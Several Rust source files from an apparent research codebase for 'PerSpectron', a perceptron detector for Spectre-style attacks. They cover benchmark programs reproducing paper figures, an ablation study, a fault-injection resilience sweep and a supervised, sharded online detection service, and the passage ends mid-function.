//! reduced bandwidths (1.0x / 0.75x / 0.5x / 0.25x), plus the
//! detected-before-first-leak check.

use perspectron::trace::collect_trace;
use perspectron_bench::{render_series, trained_detector};
use uarch_isa::MarkKind;

fn main() {
    let (_, detector) = trained_detector();
    let quick = std::env::var("PERSPECTRON_QUICK").is_ok();
    let insts = if quick { 200_000 } else { 800_000 };

    println!("FIGURE 4: perceptron output vs instructions, SpectreV1 bandwidths");
    println!(
        "(threshold = {:.2}; leak marks from the simulator)\n",
        detector.threshold
    );

    let mut rows = Vec::new();
    for (bw, w) in workloads::bandwidth_suite() {
        let trace = collect_trace(&w, insts, 10_000);
        let series = detector.confidence_series(&trace);
        println!(
            "{}",
            render_series(&format!("spectre-v1 {bw:.2}x"), &series)
        );
        let first_flag = series
            .iter()
            .position(|&c| c >= detector.threshold)
            .map(|i| ((i + 1) * 10_000) as u64);
        let first_leak = trace
            .marks
            .iter()
            .find(|m| m.kind == MarkKind::LeakByte)
            .map(|m| m.at_inst);
        rows.push((bw, first_flag, first_leak));
    }

    println!(
        "\nbandwidth | first flagged (insts) | first byte leaked (insts) | detected pre-leak?"
    );
    for (bw, flag, leak) in rows {
        let pre = match (flag, leak) {
            (Some(f), Some(l)) => {
                if f <= l {
                    "YES"
                } else {
                    "no"
                }
            }
            (Some(_), None) => "YES (no leak observed)",
            _ => "NOT DETECTED",
        };
        println!(
            "{:>8.2}x | {:>20} | {:>24} | {}",
            bw,
            flag.map_or("never".into(), |f| f.to_string()),
            leak.map_or("none".into(), |l| l.to_string()),
            pre
        );
    }
    println!(
        "\nPaper: all lower-bandwidth versions stay above the cutoff after the first\n\
         complete attack phase; detection precedes the first leaked byte."
    );
}
