//! Figure 4: perceptron output vs. number of instructions for SpectreV1 at
//! reduced bandwidths (1.0x / 0.75x / 0.5x / 0.25x), plus the
//! detected-before-first-leak check.

use perspectron::trace::stream_trace;
use perspectron_bench::{render_series, trained_detector};
use uarch_isa::MarkKind;

fn main() {
    let (_, detector) = trained_detector();
    let quick = std::env::var("PERSPECTRON_QUICK").is_ok();
    let insts = if quick { 200_000 } else { 800_000 };

    println!("FIGURE 4: perceptron output vs instructions, SpectreV1 bandwidths");
    println!(
        "(threshold = {:.2}; leak marks from the simulator)\n",
        detector.threshold
    );

    let mut rows = Vec::new();
    for (bw, w) in workloads::bandwidth_suite() {
        // Online scoring: verdicts arrive per interval while the core runs;
        // the returned marks give the ground-truth leak times.
        let mut monitor = detector.streaming();
        let marks = stream_trace(&w, insts, 10_000, &mut monitor);
        let series: Vec<f64> = monitor.verdicts().iter().map(|v| v.confidence).collect();
        println!(
            "{}",
            render_series(&format!("spectre-v1 {bw:.2}x"), &series)
        );
        let first_flag = monitor.first_alarm().map(|v| v.at_inst);
        let first_leak = marks
            .iter()
            .find(|m| m.kind == MarkKind::LeakByte)
            .map(|m| m.at_inst);
        rows.push((bw, first_flag, first_leak));
    }

    println!(
        "\nbandwidth | first flagged (insts) | first byte leaked (insts) | detected pre-leak?"
    );
    for (bw, flag, leak) in rows {
        let pre = match (flag, leak) {
            (Some(f), Some(l)) => {
                if f <= l {
                    "YES"
                } else {
                    "no"
                }
            }
            (Some(_), None) => "YES (no leak observed)",
            _ => "NOT DETECTED",
        };
        println!(
            "{:>8.2}x | {:>20} | {:>24} | {}",
            bw,
            flag.map_or("never".into(), |f| f.to_string()),
            leak.map_or("none".into(), |l| l.to_string()),
            pre
        );
    }
    println!(
        "\nPaper: all lower-bandwidth versions stay above the cutoff after the first\n\
         complete attack phase; detection precedes the first leaked byte."
    );
}
