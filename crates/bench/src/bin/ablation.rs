//! Ablation study of the design choices DESIGN.md calls out:
//!
//! 1. k-sparse binarization vs. raw normalized inputs,
//! 2. replicated per-component selection vs. plain top-N mutual
//!    information,
//!
//! measured on held-out-attack folds (where generalization, not training
//! fit, is the question).

use mlkit::metrics::mean_confidence;
use mlkit::{Classifier, Perceptron};
use perspectron::dataset::Encoding;
use perspectron::features::binary_mutual_information;
use perspectron::{paper_folds, Dataset, FeatureSelection, SelectionConfig};
use perspectron_bench::{experiment_corpus, render_table};

fn fold_accuracies(
    corpus: &perspectron::CollectedCorpus,
    dataset: &Dataset,
    indices: &[usize],
) -> Vec<f64> {
    let (x, y) = dataset.project(indices);
    paper_folds()
        .iter()
        .map(|fold| {
            let split = fold.split(corpus, dataset);
            let xt: Vec<Vec<f64>> = split.train.iter().map(|&i| x[i].clone()).collect();
            let yt: Vec<i8> = split.train.iter().map(|&i| y[i]).collect();
            let mut p = Perceptron::new(indices.len());
            p.fit(&xt, &yt);
            let correct = split
                .test
                .iter()
                .filter(|&&i| p.predict(&x[i]) == y[i])
                .count();
            correct as f64 / split.test.len().max(1) as f64
        })
        .collect()
}

fn main() {
    let corpus = experiment_corpus(10_000);
    let ks = Dataset::from_corpus(&corpus, Encoding::KSparse);
    let norm = Dataset::from_corpus(&corpus, Encoding::Normalized);
    let selection = FeatureSelection::select(&ks, &SelectionConfig::default());

    // Plain top-N mutual-information selection (no component replication,
    // no decorrelation).
    let y = ks.y();
    let mut scored: Vec<(usize, f64)> = (0..ks.schema.len())
        .map(|i| (i, binary_mutual_information(&ks.column(i), &y)))
        .collect();
    scored.sort_by(|a, b| b.1.partial_cmp(&a.1).expect("no NaN"));
    let top_n: Vec<usize> = scored
        .iter()
        .take(selection.selected.len())
        .map(|&(i, _)| i)
        .collect();

    let configs: Vec<(&str, Vec<f64>)> = vec![
        (
            "k-sparse + replicated selection (PerSpectron)",
            fold_accuracies(&corpus, &ks, &selection.selected),
        ),
        (
            "normalized inputs + replicated selection",
            fold_accuracies(&corpus, &norm, &selection.selected),
        ),
        (
            "k-sparse + plain top-N mutual information",
            fold_accuracies(&corpus, &ks, &top_n),
        ),
        (
            "k-sparse + all 1159 features",
            fold_accuracies(&corpus, &ks, &(0..ks.schema.len()).collect::<Vec<_>>()),
        ),
    ];

    println!("ABLATION: held-out-attack accuracy by design choice\n");
    let rows: Vec<Vec<String>> = configs
        .iter()
        .map(|(name, accs)| {
            let (mean, ci) = mean_confidence(accs);
            let per_fold = accs
                .iter()
                .map(|a| format!("{a:.3}"))
                .collect::<Vec<_>>()
                .join(" / ");
            vec![name.to_string(), format!("{mean:.4} ±{ci:.4}"), per_fold]
        })
        .collect();
    println!(
        "{}",
        render_table(
            &["configuration", "mean accuracy (95% CI)", "per-fold"],
            &rows
        )
    );
    println!(
        "top-N selection overlaps the replicated selection in {} of {} features",
        top_n
            .iter()
            .filter(|i| selection.selected.contains(i))
            .count(),
        top_n.len()
    );
}
