//! Resilience sweep: per-interval detection accuracy under injected sensor
//! faults, quantifying the paper's replicated-detector robustness claim.
//!
//! The detector is trained once on a clean corpus; every sweep point then
//! *replays* the collected sample rows through a fault-injecting
//! [`perspectron::FaultySink`] into a fresh [`perspectron::StreamingDetector`]
//! — faults live at the sample boundary, so no re-simulation is needed.
//! Each (dropout, corruption) point is averaged over several fault-plan
//! seeds.
//!
//! Writes the sweep to `experiments/resilience_sweep.json` at the
//! workspace root (next to `BENCH_pipeline.json`) and prints the table.
//! `PERSPECTRON_QUICK=1` shrinks the sweep to a single faulted dropout
//! point for CI smoke runs.

use perspectron::{CollectedCorpus, FaultPlan, FaultSpec, InferencePath, PerSpectron};
use perspectron_bench::{render_table, trained_detector};
use uarch_stats::SampleSink;
use workloads::Class;

/// The inference engine every replay scores with: the bit-packed fast
/// path, so each sweep run doubles as an end-to-end smoke test of packed
/// detection under fault injection (verdicts are bit-identical to the
/// scalar path either way).
const PATH: InferencePath = InferencePath::Packed;

/// One measured sweep point.
struct Point {
    dropout: f64,
    corruption: f64,
    accuracy: f64,
    degraded_fraction: f64,
    intervals: usize,
}

/// Replays the corpus through a fault plan into streaming detectors and
/// returns (per-interval accuracy, degraded-interval fraction, intervals).
fn replay(corpus: &CollectedCorpus, detector: &PerSpectron, spec: FaultSpec) -> (f64, f64, usize) {
    let plan = FaultPlan::new(spec, corpus.schema());
    let (mut correct, mut degraded, mut total) = (0usize, 0usize, 0usize);
    for t in &corpus.traces {
        let mut sink = plan.sink_for(&t.name, detector.streaming_packed());
        for (j, row) in t.trace.rows().enumerate() {
            sink.on_sample(t.trace.instruction_counts()[j], row);
        }
        let mut monitor = sink.into_inner();
        monitor.flush();
        degraded += monitor.degraded_intervals();
        for v in monitor.verdicts() {
            total += 1;
            if v.suspicious == (t.class == Class::Malicious) {
                correct += 1;
            }
        }
    }
    let total_f = total.max(1) as f64;
    (correct as f64 / total_f, degraded as f64 / total_f, total)
}

fn main() {
    let quick = std::env::var("PERSPECTRON_QUICK").is_ok();
    let (corpus, detector) = trained_detector();

    let dropouts: &[f64] = if quick {
        &[0.0, 0.1] // one clean + one faulted point: the CI smoke run
    } else {
        &[0.0, 0.05, 0.1, 0.2, 0.3]
    };
    let corruptions: &[f64] = if quick { &[0.0] } else { &[0.0, 0.05] };
    let seeds: &[u64] = if quick { &[11] } else { &[11, 23, 47] };

    println!("RESILIENCE SWEEP: detection accuracy under injected sensor faults");
    println!(
        "(per-interval accuracy over {} workloads, {} fault seed(s) per point, \
         inference path: {})\n",
        corpus.traces.len(),
        seeds.len(),
        PATH.label()
    );

    let mut points: Vec<Point> = Vec::new();
    for &corruption in corruptions {
        for &dropout in dropouts {
            let (mut acc, mut deg, mut n) = (0.0, 0.0, 0);
            for &seed in seeds {
                let spec = FaultSpec {
                    seed,
                    component_dropout: dropout,
                    row_drop: 0.0,
                    corruption,
                    interval_jitter: 0,
                };
                let (a, d, total) = replay(&corpus, &detector, spec);
                acc += a;
                deg += d;
                n = total;
            }
            points.push(Point {
                dropout,
                corruption,
                accuracy: acc / seeds.len() as f64,
                degraded_fraction: deg / seeds.len() as f64,
                intervals: n,
            });
        }
    }

    let rows: Vec<Vec<String>> = points
        .iter()
        .map(|p| {
            vec![
                format!("{:.0}%", p.dropout * 100.0),
                format!("{:.0}%", p.corruption * 100.0),
                format!("{:.1}%", p.accuracy * 100.0),
                format!("{:.0}%", p.degraded_fraction * 100.0),
                p.intervals.to_string(),
            ]
        })
        .collect();
    println!(
        "{}",
        render_table(
            &["dropout", "corruption", "accuracy", "degraded", "intervals"],
            &rows
        )
    );

    let clean = points
        .iter()
        .find(|p| p.dropout == 0.0 && p.corruption == 0.0)
        .expect("sweep includes the clean point");
    let at10 = points
        .iter()
        .find(|p| p.dropout == 0.1 && p.corruption == 0.0)
        .expect("sweep includes the 10% dropout point");
    let delta_points = (clean.accuracy - at10.accuracy) * 100.0;
    println!(
        "headline: clean {:.1}% -> 10% dropout {:.1}% ({:+.1} points)",
        clean.accuracy * 100.0,
        at10.accuracy * 100.0,
        -delta_points
    );
    if delta_points > 5.0 {
        println!("WARNING: 10% dropout costs more than 5 accuracy points");
    }

    let json_points: Vec<String> = points
        .iter()
        .map(|p| {
            format!(
                "    {{\"dropout\": {}, \"corruption\": {}, \"accuracy\": {:.6}, \
                 \"degraded_fraction\": {:.6}, \"intervals\": {}}}",
                p.dropout, p.corruption, p.accuracy, p.degraded_fraction, p.intervals
            )
        })
        .collect();
    let json = format!(
        "{{\n  \"experiment\": \"resilience_sweep\",\n  \"quick\": {},\n  \
         \"inference_path\": \"{}\",\n  \"seeds\": {:?},\n  \
         \"headline\": {{\"clean_accuracy\": {:.6}, \"dropout10_accuracy\": {:.6}, \
         \"delta_points\": {:.3}}},\n  \"points\": [\n{}\n  ]\n}}\n",
        quick,
        PATH.label(),
        seeds,
        clean.accuracy,
        at10.accuracy,
        delta_points,
        json_points.join(",\n")
    );
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../experiments/resilience_sweep.json"
    );
    match std::fs::write(path, &json) {
        Ok(()) => println!("\n-> experiments/resilience_sweep.json"),
        Err(e) => eprintln!("could not write resilience_sweep.json: {e}"),
    }
}
