//! Table I: highly correlated feature groups spanning pipeline components
//! (|Pearson| ≥ 0.98), the raw material of the replicated detectors.

use perspectron::{component_of, Dataset, FeatureSelection, SelectionConfig};
use perspectron_bench::experiment_corpus;

fn main() {
    let corpus = experiment_corpus(10_000);
    let dataset = Dataset::from_corpus(&corpus, perspectron::dataset::Encoding::Normalized);
    let selection = FeatureSelection::select(&dataset, &SelectionConfig::default());

    let groups = selection.replicated_groups(2);
    println!("TABLE I: highly correlated feature groups (|c| >= 0.98) spanning >= 2 components");
    println!(
        "total correlation groups: {} (cross-component: {})\n",
        selection.groups.len(),
        groups.len()
    );

    for (gi, g) in groups.iter().take(4).enumerate() {
        println!(
            "group {} — {} members across {} components (best relevance {:.3} bits)",
            gi + 1,
            g.members.len(),
            g.component_span,
            g.relevance
        );
        for &m in g.members.iter().take(18) {
            let name = dataset.schema.name(m);
            println!("    [{:>9}] {}", component_of(name), name);
        }
        println!();
    }
    println!(
        "{} features selected for the detector: one decorrelated bank per component,",
        selection.selected.len()
    );
    println!("cross-component replicas deliberately retained (replicated detectors).");
}
