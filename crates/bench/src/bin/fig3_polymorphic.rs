//! Figure 3: perceptron output vs. number of instructions for the twelve
//! polymorphic Spectre variants (none seen in training). All variants
//! should be flagged suspicious at the same sampling interval.

use perspectron::trace::stream_trace;
use perspectron_bench::{render_series, trained_detector};

fn main() {
    let (_, detector) = trained_detector();
    let quick = std::env::var("PERSPECTRON_QUICK").is_ok();
    let insts = if quick { 150_000 } else { 400_000 };

    println!("FIGURE 3: perceptron output vs instructions, polymorphic Spectre variants");
    println!(
        "(pre-threshold confidence per 10K-instruction sample; threshold = {:.2})\n",
        detector.threshold
    );

    let mut all_detected = true;
    let mut first_flags = Vec::new();
    for w in workloads::polymorphic_suite() {
        // Online scoring: the detector rides the sample stream, no trace
        // is materialized.
        let mut monitor = detector.streaming();
        stream_trace(&w, insts, 10_000, &mut monitor);
        let series: Vec<f64> = monitor.verdicts().iter().map(|v| v.confidence).collect();
        println!("{}", render_series(&w.name, &series));
        match monitor.first_alarm() {
            Some(v) => first_flags.push((w.name.clone(), v.at_inst)),
            None => {
                all_detected = false;
                println!("    !! never flagged");
            }
        }
    }
    println!();
    for (name, at) in &first_flags {
        println!("{name:<28} first flagged at {at} instructions");
    }
    println!(
        "\n{}",
        if all_detected {
            "All polymorphic variants were flagged as suspicious (paper: \"All variations \
             were detected ... at the same sampling interval\")."
        } else {
            "WARNING: some variants were never flagged."
        }
    );
}
