//! `perspectrond` — the online detection service around the PerSpectron
//! engine.
//!
//! The paper's hardware unit scores every sampling period of one machine;
//! this crate is the fleet-scale software analogue: a long-lived service
//! that multiplexes thousands of concurrent telemetry **streams** (one
//! per monitored core/tenant) through the bit-packed batched inference
//! engine. Three pieces:
//!
//! - [`service`] — the sharded service itself: worker threads owning
//!   per-stream [`StreamSession`](perspectron::StreamSession)s, bounded
//!   queues with explicit [`SubmitError::Busy`] backpressure, and
//!   cross-session batched `score_rows` sweeps. Per-stream verdicts are
//!   bit-identical to running the stream alone through
//!   `PerSpectron::streaming_packed`, independent of shard count and
//!   arrival interleaving.
//! - [`replay`] — the load generator: replays an on-disk columnar corpus
//!   (`perspectron::corpus_io`) as N concurrent streams at configurable
//!   fan-in, driving the service the way a fleet would.
//! - the `perspectrond` binary — trains on a corpus, starts the service,
//!   replays load against it, and prints the operational report.
//!
//! The service is fault tolerant: each shard worker runs under an
//! Erlang-style supervisor that respawns it after panics (re-homing its
//! sessions, carrying the in-flight batch so verdicts stay bit-identical)
//! and a watchdog that detects wedged workers. Failures are typed —
//! [`ShardRestart`] events in the report, [`ServiceError::ShardPanicked`]
//! with partial results at shutdown — and the [`chaos`] module injects
//! them deterministically from a seed, so the whole recovery surface is
//! testable byte-for-byte. [`policy`] gives producers deadline-bounded,
//! deterministically-jittered retry behavior around backpressure.

#![warn(missing_docs)]

pub mod chaos;
pub mod policy;
pub mod replay;
pub mod service;

pub use chaos::{ChaosSpec, PanicAt, PoisonPill, StallAt};
pub use policy::SubmitPolicy;
pub use replay::{replay_clients, ReplayConfig, ReplayOutcome};
pub use service::{
    Perspectrond, RestartCause, ServiceConfig, ServiceError, ServiceReport, ShardRestart,
    StreamOutcome, SubmitError, Submitter, WatchdogConfig,
};
