//! The sharded detection service: N supervised worker threads, each
//! owning a shard of stream sessions, fed through bounded queues with
//! explicit backpressure and scoring windows in cross-session batched
//! sweeps.
//!
//! # Architecture
//!
//! ```text
//!  clients ──submit──► [bounded MPSC, depth Q] ──► supervisor ⟳ shard 0 ─┐
//!  clients ──submit──► [bounded MPSC, depth Q] ──► supervisor ⟳ shard 1 ─┼─► ServiceReport
//!                  …                                        …            ┘
//!                                 watchdog ── heartbeats ──┘
//! ```
//!
//! A stream id hashes (FNV-1a) to exactly one shard, so one stream's
//! windows are always processed by one thread in submission order. Each
//! shard coalesces up to `batch_windows` queued windows — **across** its
//! sessions — into a single [`PackedRows`] sweep through
//! [`PackedPerceptron::score_rows`], amortizing the batch advantage over
//! the whole shard instead of one stream. Because a window's verdict
//! depends only on its own row bits and its stream's sampling point,
//! batch composition is invisible in the output: per-stream verdict
//! sequences are bit-identical to running each stream alone through
//! `PerSpectron::streaming_packed`, whatever the shard count or arrival
//! interleaving (pinned by the crate's tests).
//!
//! # Supervision
//!
//! Each shard thread is an Erlang-style supervisor loop around the actual
//! worker loop. The worker's *durable* state — sessions, the in-flight
//! batch, counters, chaos bookkeeping — lives in the supervisor's frame;
//! the worker loop runs under `catch_unwind` and owns only *volatile*
//! state (the inference engine, encoder, scratch buffers) that is rebuilt
//! from the shared detector on every (re)spawn. When the worker panics:
//!
//! - the supervisor records a typed [`ShardRestart`],
//! - repairs the durable state to the last consistent point (a panic
//!   inside a sweep leaves the whole batch intact and it is simply
//!   re-scored by the respawned engine — a clone of the same frozen
//!   weights, so verdicts stay bit-identical; a panic while receiving a
//!   window loses exactly that window, and its stream is quarantined via
//!   [`StreamSession::record_lost_window`], never silently dropped),
//! - re-homes every session through the
//!   [`SessionSnapshot`](perspectron::SessionSnapshot) round-trip, and
//! - re-enters the loop on the same queue.
//!
//! After [`ServiceConfig::max_restarts_per_shard`] restarts the
//! supervisor gives up and re-raises, which surfaces at shutdown as
//! [`ServiceError::ShardPanicked`] — still carrying the merged report of
//! every surviving shard.
//!
//! A watchdog thread watches per-shard heartbeat counters; a worker that
//! stops beating for [`WatchdogConfig::stall_budget`] consecutive ticks
//! is declared wedged and handed a restart request, which the worker
//! honors at the next loop boundary (a controlled restart — nothing is
//! lost, the cause is recorded as [`RestartCause::Wedged`]).
//!
//! # Backpressure
//!
//! Queues are `std::sync::mpsc::sync_channel`s with a fixed depth.
//! [`Submitter::try_submit`] never blocks and never buffers beyond that
//! depth: a full shard queue surfaces as [`SubmitError::Busy`] and the
//! caller decides — retry, skip the window, or shed the stream. The
//! policy paths ([`Submitter::submit_with_policy`] and the blocking
//! [`Submitter::submit`]) move that decision into the service: bounded
//! retries with deterministic jittered backoff under a hard deadline,
//! with shed/retry counters surfaced in [`ServiceReport`]. Memory is
//! bounded by `shards × queue_depth` in-flight windows no matter how far
//! producers outrun the scorer.

use std::collections::HashMap;
use std::panic::{catch_unwind, resume_unwind, AssertUnwindSafe};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::mpsc::{sync_channel, Receiver, RecvTimeoutError, SyncSender, TrySendError};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use mlkit::{BitRow, PackedPerceptron, PackedRows};
use perspectron::stream::DEFAULT_QUARANTINE_AFTER;
use perspectron::{
    Degraded, IntervalVerdict, PerSpectron, RowEncoder, SessionState, StreamSession,
};

use crate::chaos::{ChaosSpec, ShardChaos};
use crate::policy::SubmitPolicy;

/// Shape of the watchdog that detects wedged shard workers.
///
/// Workers heartbeat an atomic counter at every loop boundary (including
/// idle `recv` timeouts, which fire every `tick`). The watchdog samples
/// the counters every `tick`; a worker whose counter has not moved for
/// `stall_budget` consecutive samples is declared wedged and handed a
/// restart request. The request is cooperative — std threads cannot be
/// killed — so recovery happens when the wedge releases (or at shutdown);
/// what the watchdog guarantees is *detection* and a typed
/// [`RestartCause::Wedged`] restart instead of a silent stall.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct WatchdogConfig {
    /// Sampling period, and the workers' idle-heartbeat period. Clamped
    /// to ≥ 1 ms.
    pub tick: Duration,
    /// Consecutive stale samples before a worker is declared wedged.
    /// Clamped to ≥ 2 (one sample can race a legitimately idle beat).
    pub stall_budget: u32,
}

impl Default for WatchdogConfig {
    fn default() -> Self {
        Self {
            tick: Duration::from_millis(50),
            stall_budget: 40, // 2 s of silence before a shard is wedged
        }
    }
}

/// How the service is shaped: worker count, queue bound, batching policy,
/// fault-tolerance knobs.
#[derive(Debug, Clone)]
pub struct ServiceConfig {
    /// Worker threads, each owning one shard of streams. Clamped to ≥ 1.
    pub shards: usize,
    /// Bounded depth of each shard's submission queue — the backpressure
    /// knob. Clamped to ≥ 1.
    pub queue_depth: usize,
    /// Maximum windows coalesced into one batched scoring sweep.
    /// Clamped to ≥ 1.
    pub batch_windows: usize,
    /// Consecutive degraded windows before a stream is quarantined.
    pub quarantine_after: usize,
    /// Artificial delay before each scoring sweep — zero in production;
    /// tests and benches set it to emulate a slow consumer so queue
    /// backpressure becomes observable.
    pub sweep_stall: Duration,
    /// Default policy of the blocking [`Submitter::submit`] path.
    pub submit_policy: SubmitPolicy,
    /// Wedged-worker detection.
    pub watchdog: WatchdogConfig,
    /// Deterministic chaos injected into the shard workers.
    /// [`ChaosSpec::quiet`] (the default) injects nothing.
    pub chaos: ChaosSpec,
    /// Worker restarts a shard's supervisor tolerates before giving up
    /// and re-raising the panic (surfaced at shutdown as
    /// [`ServiceError::ShardPanicked`]). Zero means fail on the first
    /// panic.
    pub max_restarts_per_shard: usize,
}

impl Default for ServiceConfig {
    fn default() -> Self {
        Self {
            shards: std::thread::available_parallelism().map_or(1, |n| n.get()),
            queue_depth: 256,
            batch_windows: 64,
            quarantine_after: DEFAULT_QUARANTINE_AFTER,
            sweep_stall: Duration::ZERO,
            submit_policy: SubmitPolicy::default(),
            watchdog: WatchdogConfig::default(),
            chaos: ChaosSpec::quiet(),
            max_restarts_per_shard: 3,
        }
    }
}

/// Why a submission was not accepted.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SubmitError {
    /// The target shard's queue is full — explicit shed-load signal; the
    /// window was **not** buffered anywhere. Retry later or drop it.
    Busy {
        /// The shard whose queue was full.
        shard: usize,
    },
    /// The submission's deadline elapsed while the shard stayed busy —
    /// the policy paths' terminal shed signal. The window was **not**
    /// buffered anywhere.
    Deadline {
        /// The shard whose queue stayed full.
        shard: usize,
        /// Backoff-and-retry attempts burned before giving up.
        retries: u32,
    },
    /// The service has shut down; no further windows can be scored.
    Shutdown,
}

impl std::fmt::Display for SubmitError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            SubmitError::Busy { shard } => write!(f, "shard {shard} queue full"),
            SubmitError::Deadline { shard, retries } => {
                write!(
                    f,
                    "shard {shard} still busy after {retries} retries; deadline elapsed"
                )
            }
            SubmitError::Shutdown => write!(f, "service is shut down"),
        }
    }
}

impl std::error::Error for SubmitError {}

/// Why the service failed to shut down cleanly.
#[derive(Debug)]
pub enum ServiceError {
    /// A shard worker died beyond its restart budget. The report of every
    /// *surviving* shard is still merged and attached — a fleet does not
    /// discard N-1 shards of verdicts because one shard crashed.
    ShardPanicked {
        /// The shard whose worker died.
        shard: usize,
        /// The panic message of the fatal (budget-exhausting) panic.
        message: String,
        /// Merged report of the surviving shards (the dead shard's
        /// sessions and latencies are lost with its thread).
        partial: Box<ServiceReport>,
    },
}

impl std::fmt::Display for ServiceError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ServiceError::ShardPanicked {
                shard,
                message,
                partial,
            } => write!(
                f,
                "shard {shard} panicked beyond its restart budget ({message}); \
                 {} surviving shard(s) reported",
                partial.shards.saturating_sub(1)
            ),
        }
    }
}

impl std::error::Error for ServiceError {}

/// Why a shard worker was restarted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum RestartCause {
    /// The worker loop panicked and was respawned by its supervisor.
    Panic {
        /// The panic message (best effort; non-string payloads are
        /// summarized).
        message: String,
    },
    /// The watchdog declared the worker wedged and the worker honored the
    /// restart request at its next loop boundary.
    Wedged,
}

/// One supervised restart of a shard worker.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShardRestart {
    /// The shard whose worker restarted.
    pub shard: usize,
    /// What killed (or wedged) the worker.
    pub cause: RestartCause,
    /// Completed scoring sweeps on the shard when the restart happened.
    pub at_sweep: u64,
}

enum Msg {
    Window {
        stream: u64,
        at_inst: u64,
        row: Box<[f64]>,
        submitted: Instant,
    },
    Drain(SyncSender<()>),
}

/// FNV-1a 64 over the stream id — the shard routing hash.
fn stream_hash(stream: u64) -> u64 {
    let mut h = 0xcbf2_9ce4_8422_2325u64;
    for b in stream.to_le_bytes() {
        h ^= b as u64;
        h = h.wrapping_mul(0x100_0000_01b3);
    }
    h
}

fn panic_message(payload: &(dyn std::any::Any + Send)) -> String {
    if let Some(s) = payload.downcast_ref::<&str>() {
        (*s).to_string()
    } else if let Some(s) = payload.downcast_ref::<String>() {
        s.clone()
    } else {
        "non-string panic payload".to_string()
    }
}

/// A cloneable, thread-safe submission handle.
///
/// Clone one per producer thread. Windows for one stream must be
/// submitted in order by a single thread at a time — the service
/// preserves per-queue FIFO order, not cross-thread wall-clock order.
///
/// **Every clone must be dropped before [`Perspectrond::shutdown`] can
/// complete**: shards exit when their queue disconnects, which requires
/// all senders gone.
#[derive(Debug, Clone)]
pub struct Submitter {
    txs: Arc<[SyncSender<Msg>]>,
    busy: Arc<AtomicU64>,
    shed: Arc<AtomicU64>,
    retries: Arc<AtomicU64>,
    policy: SubmitPolicy,
}

impl Submitter {
    /// The shard a stream's windows are processed by.
    pub fn shard_of(&self, stream: u64) -> usize {
        (stream_hash(stream) % self.txs.len() as u64) as usize
    }

    /// Submits one sampling window without blocking. `row` is the
    /// stream's raw counter-delta row (full schema width); `at_inst` the
    /// committed-instruction count when the window closed.
    ///
    /// # Errors
    ///
    /// [`SubmitError::Busy`] when the shard's bounded queue is full (the
    /// window is dropped back to the caller), [`SubmitError::Shutdown`]
    /// when the shard is gone.
    pub fn try_submit(
        &self,
        stream: u64,
        at_inst: u64,
        row: Box<[f64]>,
    ) -> Result<(), SubmitError> {
        let shard = self.shard_of(stream);
        match self.txs[shard].try_send(Msg::Window {
            stream,
            at_inst,
            row,
            submitted: Instant::now(),
        }) {
            Ok(()) => Ok(()),
            Err(TrySendError::Full(_)) => {
                self.busy.fetch_add(1, Ordering::Relaxed);
                Err(SubmitError::Busy { shard })
            }
            Err(TrySendError::Disconnected(_)) => Err(SubmitError::Shutdown),
        }
    }

    /// Submits one window under an explicit [`SubmitPolicy`]: on `Busy`,
    /// sleeps the policy's deterministic jittered backoff and retries, up
    /// to [`SubmitPolicy::max_retries`] attempts and never past
    /// [`SubmitPolicy::deadline`].
    ///
    /// The window's latency clock (`submitted`) restarts on every
    /// attempt, so backoff spent *outside* the queue does not pollute the
    /// service's queue-to-verdict latency distribution.
    ///
    /// # Errors
    ///
    /// [`SubmitError::Deadline`] when the budget is exhausted (the window
    /// is dropped back to the caller and counted in
    /// [`ServiceReport::shed`]), [`SubmitError::Shutdown`] when the shard
    /// is gone.
    pub fn submit_with_policy(
        &self,
        stream: u64,
        at_inst: u64,
        row: Box<[f64]>,
        policy: &SubmitPolicy,
    ) -> Result<(), SubmitError> {
        self.submit_bounded(stream, at_inst, row, policy, Some(policy.max_retries))
    }

    /// Submits one window, absorbing backpressure with the service's
    /// default policy ([`ServiceConfig::submit_policy`]): retries are
    /// unbounded, but the policy's deadline still applies — a wedged
    /// shard cannot hold a producer hostage forever.
    ///
    /// # Errors
    ///
    /// [`SubmitError::Deadline`] when the deadline elapses with the shard
    /// still busy, [`SubmitError::Shutdown`] when the shard is gone.
    pub fn submit(&self, stream: u64, at_inst: u64, row: Box<[f64]>) -> Result<(), SubmitError> {
        let policy = self.policy;
        self.submit_bounded(stream, at_inst, row, &policy, None)
    }

    fn submit_bounded(
        &self,
        stream: u64,
        at_inst: u64,
        mut row: Box<[f64]>,
        policy: &SubmitPolicy,
        max_retries: Option<u32>,
    ) -> Result<(), SubmitError> {
        let shard = self.shard_of(stream);
        let start = Instant::now();
        let mut attempt: u32 = 0;
        loop {
            let msg = Msg::Window {
                stream,
                at_inst,
                row,
                submitted: Instant::now(),
            };
            match self.txs[shard].try_send(msg) {
                Ok(()) => return Ok(()),
                Err(TrySendError::Disconnected(_)) => return Err(SubmitError::Shutdown),
                Err(TrySendError::Full(msg)) => {
                    self.busy.fetch_add(1, Ordering::Relaxed);
                    // Take the row back out of the rejected message rather
                    // than recloning it for the retry.
                    row = match msg {
                        Msg::Window { row, .. } => row,
                        Msg::Drain(_) => unreachable!("submit only sends windows"),
                    };
                    let out_of_attempts = max_retries.is_some_and(|m| attempt >= m);
                    let elapsed = start.elapsed();
                    if out_of_attempts || elapsed >= policy.deadline {
                        self.shed.fetch_add(1, Ordering::Relaxed);
                        return Err(SubmitError::Deadline {
                            shard,
                            retries: attempt,
                        });
                    }
                    let nap = policy
                        .backoff(stream, attempt)
                        .min(policy.deadline - elapsed);
                    std::thread::sleep(nap);
                    self.retries.fetch_add(1, Ordering::Relaxed);
                    attempt += 1;
                }
            }
        }
    }

    /// `Busy` rejections observed across all clones of this submitter
    /// (every rejected `try_send`, including ones later absorbed by a
    /// policy retry).
    pub fn busy_rejections(&self) -> u64 {
        self.busy.load(Ordering::Relaxed)
    }

    /// Windows given up on by the policy paths (deadline or retry budget
    /// exhausted) across all clones of this submitter.
    pub fn shed(&self) -> u64 {
